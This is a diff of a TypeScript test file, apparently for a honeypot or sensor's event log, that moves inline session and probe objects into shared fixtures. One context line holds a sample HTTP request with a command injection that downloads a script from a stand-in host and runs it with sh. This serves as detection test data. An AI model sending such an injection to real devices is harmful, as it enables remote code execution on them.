@@ -2,36 +2,20 @@ import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import type { Session } from "../../schema/session.js";
 import { EventLog, eventOf, firstLine } from "./events.js";
+import { testProbe, testSession } from "./fixtures.js";
 import type { RecordedConnection } from "./recorder.js";
 
 const enc = new TextEncoder();
-const sess = (payload: string): Session => ({
-  id: "abc",
-  proto: "tcp",
-  src: "198.51.100.7",
-  srcKey: 0xc6336407,
-  sport: 40000,
-  dst: "203.0.113.5",
-  dstKey: 0xcb007105,
-  dport: 8080,
-  start: Date.UTC(2018, 5, 15, 10) * 1000,
-  end: Date.UTC(2018, 5, 15, 10) * 1000 + 5000,
-  clientBytes: enc.encode(payload),
-  clientBytesTotal: payload.length,
-  serverBytes: new Uint8Array(3),
-  serverBytesTotal: 3,
-  clientPackets: 1,
-  serverPackets: 1,
-  handshake: true,
-  gaps: 0,
-  truncated: false,
-  close: "fin",
-  fingerprint: "",
-  ttl: 0,
-  window: 0,
-});
+const sess = (payload: string) =>
+  testSession(payload, {
+    id: "abc",
+    dport: 8080,
+    start: Date.UTC(2018, 5, 15, 10) * 1000,
+    serverBytes: new Uint8Array(3),
+    serverBytesTotal: 3,
+    serverPackets: 1,
+  });
 
 const DSL =
   "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.9/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\nHost: x\r\n\r\n";
@@ -73,22 +57,7 @@ describe("sensor events", () => {
       persona: "generic",
       listenerPort: 5555,
       limit: "per_source_rate",
-      probe: {
-        proto: "tcp",
-        src: "198.51.100.7",
-        srcKey: 1,
-        sport: 1,
-        dst: "203.0.113.5",
-        dport: 5555,
-        ts: 0,
-        packets: 1,
-        fingerprint: "",
-        ttl: 0,
-        window: 0,
-        ipId: 0,
-        seq: 0,
-        tcpOptionsLen: 0,
-      },
+      probe: testProbe({ srcKey: 1, sport: 1, dport: 5555, ts: 0 }),
       alerts: [],
       iocs: [],
     });
